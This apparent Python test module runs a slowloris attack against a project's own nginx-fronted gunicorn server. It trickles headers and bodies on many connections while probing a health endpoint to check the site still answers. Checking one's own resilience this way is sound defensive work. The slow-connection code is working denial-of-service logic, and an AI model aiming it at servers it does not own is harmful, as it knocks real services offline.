"""Slow clients (slowloris): connections that send a request a few bytes at a time, holding
the server's threads, while a probe checks that the site still answers.

gunicorn's threads read each request themselves, so 8 connections sending a header line every
2 s, or 16 slow bodies, stopped a gunicorn facing clients directly for 25 s. nginx reads the
whole request (headers, then the body: proxy_request_buffering) before it sends anything to
gunicorn, in its event loop where a waiting connection costs a few kilobytes: so gunicorn must
sit behind nginx. The cluster check (checks/cluster.py) runs this against its nginx.
"""

import socket
import threading
import time
import urllib.error
import urllib.request
from dataclasses import dataclass


@dataclass
class ProbeResult:
    answered: int  # probes answered 200 within the timeout
    sent: int
    slowest: float  # seconds, of the answered ones
    held_open: int  # slow connections still open at the end (the server did not drop them)


def _open_slow(host: str, port: int, body: bool) -> socket.socket:
    connection = socket.create_connection((host, port), timeout=5)
    if body:  # complete headers, then a body promised long that trickles in
        connection.sendall(
            b"POST /api/v1/recognitions/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b"Content-Length: 100000\r\n\r\n{"
        )
    else:  # headers that never end
        connection.sendall(b"GET /api/v1/health/live/ HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    return connection


def attack_and_probe(
    host: str, port: int, *, headers: int = 16, bodies: int = 16, seconds: float = 12.0, probe_timeout: float = 2.0
) -> ProbeResult:
    """Hold `headers` slow-header and `bodies` slow-body connections for `seconds`, sending one
    more byte on each every 2 s, while GET /api/v1/health/live/ is probed every 0.5 s."""
    slow = [_open_slow(host, port, body=False) for _ in range(headers)]
    slow += [_open_slow(host, port, body=True) for _ in range(bodies)]
    latencies: list[float] = []
    sent = 0
    stop = threading.Event()

    def trickle() -> None:
        while not stop.wait(2.0):
            for index, connection in enumerate(slow):
                try:
                    connection.sendall(b"X-Slow: 1\r\n" if index < headers else b"0")
                except OSError:
                    pass  # dropped by the server: fine, that is one way to defend

    trickler = threading.Thread(target=trickle, daemon=True)
    trickler.start()
    deadline = time.monotonic() + seconds
    time.sleep(1.0)  # let the slow connections settle in first
    while time.monotonic() < deadline:
        sent += 1
        started = time.monotonic()
        try:
            url = f"http://{host}:{port}/api/v1/health/live/"
            with urllib.request.urlopen(url, timeout=probe_timeout) as response:
                if response.status == 200:
                    latencies.append(time.monotonic() - started)
        except (urllib.error.URLError, ConnectionError, TimeoutError, OSError):
            pass
        time.sleep(max(0.0, 0.5 - (time.monotonic() - started)))
    stop.set()
    trickler.join()
    held = 0
    for connection in slow:
        try:
            connection.setblocking(False)
            held += connection.recv(1, socket.MSG_PEEK) != b""  # b"" = closed by the server
        except BlockingIOError:
            held += 1  # open, nothing to read yet
        except OSError:
            pass
        finally:
            connection.close()
    return ProbeResult(len(latencies), sent, max(latencies, default=0.0), held)
